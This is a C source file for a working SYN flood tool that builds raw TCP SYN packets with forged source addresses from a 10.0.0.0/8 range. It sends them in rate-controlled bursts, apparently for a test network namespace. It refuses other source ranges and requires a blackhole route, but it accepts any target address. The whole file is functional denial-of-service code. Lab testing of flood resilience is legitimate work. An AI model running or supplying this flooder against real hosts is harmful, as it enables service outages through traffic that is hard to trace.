/*
 * A SYN flood from addresses of a test network's own range, for the network namespace that run.py makes. Nothing else: it refuses to run
 * where it is not told that range, and where the host routes the range anywhere but into a black hole.
 *
 *     synflood TARGET PORT NETWORK PREFIX RATE SECONDS
 *
 * RATE is SYNs a second, evenly, in bursts of what has become due; each from a random address and port, as a Linux client's would
 * look: MSS, SACK permitted, timestamps, window scale. Prints one line: SYNs sent, those that the kernel refused, seconds.
 */
#define _GNU_SOURCE /* sendmmsg */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { IP_HEADER = 20, TCP_HEADER = 40, PACKET = IP_HEADER + TCP_HEADER, BURST = 64, PREFIX_LEAST = 8 };

static volatile sig_atomic_t ended;

static void end(int number)
{
    (void)number;
    ended = 1;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static uint64_t state = 88172645463325252u; /* xorshift64, G. Marsaglia 2003; never 0 */

static uint32_t draw(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 32);
}

static uint32_t sum(const uint8_t *octets, size_t length)
{
    uint32_t total = 0;
    for (size_t i = 0; i < length; i += 2)
        total += (uint32_t)octets[i] << 8 | octets[i + 1];
    return total;
}

static void put16(uint8_t *to, uint32_t value)
{
    to[0] = (uint8_t)(value >> 8);
    to[1] = (uint8_t)value;
}

static void put32(uint8_t *to, uint32_t value)
{
    put16(to, value >> 16);
    put16(to + 2, value);
}

static void put_checksum(uint8_t *to, uint32_t total)
{
    while (total >> 16)
        total = (total & 0xFFFF) + (total >> 16);
    put16(to, ~total & 0xFFFF);
}

/* The IPv4 header's length, identification and checksum are the kernel's to fill in (raw(7)). */
static void make_syn(uint8_t *packet, uint32_t source, uint32_t target, uint32_t port)
{
    static const uint8_t options[20] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
    uint8_t *tcp = packet + IP_HEADER;
    memset(packet, 0, PACKET);
    packet[0] = 0x45;
    packet[6] = 0x40; /* DF */
    packet[8] = 64;
    packet[9] = IPPROTO_TCP;
    put32(packet + 12, source);
    put32(packet + 16, target);
    put16(tcp, 1024 + draw() % 64512);
    put16(tcp + 2, port);
    put32(tcp + 4, draw());
    tcp[12] = TCP_HEADER / 4 << 4;
    tcp[13] = 0x02; /* SYN */
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, options, sizeof options);
    put32(tcp + 28, draw());
    put_checksum(tcp + 16, sum(packet + 12, 8) + IPPROTO_TCP + TCP_HEADER + sum(tcp, TCP_HEADER));
}

static double number(const char *text, double least, double most, const char *what)
{
    char *rest;
    errno = 0;
    double value = strtod(text, &rest);
    if (errno || rest == text || *rest || !(value >= least && value <= most)) {
        fprintf(stderr, "synflood: %s is no %s from %g to %g\n", text, what, least, most);
        exit(2);
    }
    return value;
}

static uint32_t address(const char *text)
{
    struct in_addr value;
    if (inet_pton(AF_INET, text, &value) != 1) {
        fprintf(stderr, "synflood: %s is no IPv4 address\n", text);
        exit(2);
    }
    return ntohl(value.s_addr);
}

/* Whether nothing can be sent to an address, because the route to it is a black hole: then answers to it go nowhere either. */
static int is_black_hole(uint32_t host)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(host)};
    int probe = socket(AF_INET, SOCK_DGRAM, 0);
    return probe >= 0 && connect(probe, (struct sockaddr *)&to, sizeof to) < 0 && errno == EINVAL;
}

int main(int count, char **words)
{
    if (count != 7) {
        fprintf(stderr, "synflood: usage: synflood TARGET PORT NETWORK PREFIX RATE SECONDS\n");
        return 2;
    }
    uint32_t target = address(words[1]);
    uint32_t port = (uint32_t)number(words[2], 1, 65535, "port");
    uint32_t network = address(words[3]);
    uint32_t hosts = 0xFFFFFFFFu >> (int)number(words[4], PREFIX_LEAST, 30, "prefix");
    double rate = number(words[5], 1, 1e6, "rate");
    double seconds = number(words[6], 0.1, 600, "number of seconds");
    if (network >> 24 != 10 || network & hosts) {
        fprintf(stderr, "synflood: the network must be one of 10.0.0.0/8\n");
        return 2;
    }
    if (!is_black_hole(network + 1) || !is_black_hole(network + hosts - 1)) {
        fprintf(stderr, "synflood: there must be a route of type blackhole to the network\n");
        return 2;
    }
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* which includes IP_HDRINCL */
    if (raw < 0) {
        perror("synflood: raw socket");
        return 2;
    }
    signal(SIGTERM, end);
    signal(SIGINT, end);

    static uint8_t packets[BURST][PACKET];
    struct iovec views[BURST];
    struct mmsghdr messages[BURST];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(target)};
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < BURST; i++) {
        views[i] = (struct iovec){packets[i], PACKET};
        messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &views[i], .msg_iovlen = 1};
    }
    double begin = now(), time = begin;
    uint64_t tried = 0, refused = 0;
    while (!ended && (time = now()) - begin < seconds) {
        uint64_t due = (uint64_t)((time - begin) * rate) - tried;
        if (!due) {
            nanosleep(&(struct timespec){0, 100000}, NULL);
            continue;
        }
        unsigned burst = due < BURST ? (unsigned)due : BURST;
        for (unsigned i = 0; i < burst; i++)
            make_syn(packets[i], network + 1 + draw() % (hosts - 1), target, port);
        for (unsigned done = 0; done < burst;) {
            int sent = sendmmsg(raw, messages + done, burst - done, 0);
            if (sent < 0 && errno == EINTR)
                break;
            if (sent < 0 && errno != ENOBUFS && errno != EAGAIN) {
                perror("synflood: send");
                return 1;
            }
            done += sent < 0 ? 1 : (unsigned)sent;
            refused += sent < 0;
        }
        tried += burst;
    }
    printf("%llu %llu %.3f\n", (unsigned long long)(tried - refused), (unsigned long long)refused, time - begin);
    return 0;
}
